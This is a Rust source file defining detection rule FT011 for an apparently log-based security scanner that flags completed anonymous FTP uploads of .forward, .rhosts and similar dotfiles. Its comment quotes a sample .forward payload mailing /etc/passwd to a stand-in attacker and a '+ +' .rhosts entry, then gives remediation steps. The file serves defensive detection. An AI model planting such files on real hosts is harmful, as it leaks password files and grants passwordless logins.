//! # FT011 anon-ftp-dotfile-upload
//!
//! ## What it finds
//! An anonymous FTP user who completed the upload of a file that makes the FTP account
//! run commands or trust other hosts: `.forward`, `.rhosts`, `.shosts`, `hosts.equiv`,
//! `authorized_keys` or a login script (`.profile`, `.cshrc`, `.login`, `.bashrc`). It
//! reads wu-ftpd's `xferlog` (direction `i`, access mode `a`, completion `c`) and
//! vsftpd's own log (`[ftp] OK UPLOAD:`), written by the server itself or through
//! syslog. Uploads into an `incoming` directory are not counted: that is what a
//! write-only `incoming` is for, and nobody reads a `.forward` there.
//!
//! ## Why it matters
//! This is the anonymous FTP attack of JPCERT-E-INF-97-0001: when `~ftp` is writable
//! (owned by `ftp`, or mode 777), an intruder uploads `~ftp/.forward` holding
//! `"|/bin/mail evil@example < /etc/passwd"` and then mails `ftp@host`: sendmail runs the
//! command as the ftp user, and the password file is gone. A `.rhosts` with `+ +` lets
//! anyone `rlogin` as `ftp` without a password. A completed upload means the hole was
//! open and used.
//!
//! ## Example
//! ```text
//! Fri Dec 27 18:00:54 1996 1 192.0.2.95 48 /home/ftp/.forward a _ i a guest@ ftp 0 * c
//! ```
//!
//! ## What to do
//! Treat the host as compromised. Remove the uploaded file, and (2) make the anonymous
//! FTP root owned by root and not writable by `ftp`, its group or others (`chmod 555
//! ~ftp`); upgrade wu-ftpd. Look in the mail log for mail to `ftp@` after the upload
//! (the trigger) and (3) change every user's password, (4) use shadow passwords,
//! (5) rebuild where an intrusion cannot be ruled out.
//!
//! ## References
//! - JPCERT/CC JPCERT-E-INF-97-0001-01 (countermeasure 2)
//! - CERT Advisory CA-93:10, "Anonymous FTP Activity", and its configuration guidelines
//! - xferlog(5) of wu-ftpd

use kensa_core::{Kind, Outcome, Rule, RuleStatus, Severity};

/// FT011: an anonymous upload of a dot file, completed.
pub static RULE: Rule = Rule {
    code: "FT011",
    name: "anon-ftp-dotfile-upload",
    kind: Kind::AnonFtpUpload,
    outcome: Outcome::Succeeded,
    severity: Severity::Critical,
    title: "Anonymous FTP upload of .forward/.rhosts completed",
    advice: "Treat the host as compromised: remove the uploaded file; (2) make the anonymous \
             FTP root owned by root and not writable (chmod 555 ~ftp) and upgrade wu-ftpd; look \
             for mail to ftp@ after the upload; (3) change every password, (4) use shadow \
             passwords, (5) rebuild where an intrusion cannot be ruled out.",
    status: RuleStatus::Stable,
    title_ja: "",
    advice_ja: "",
    since: "0.1.0",
    source: include_str!("ft011_dotfile_upload_succeeded.rs"),
};
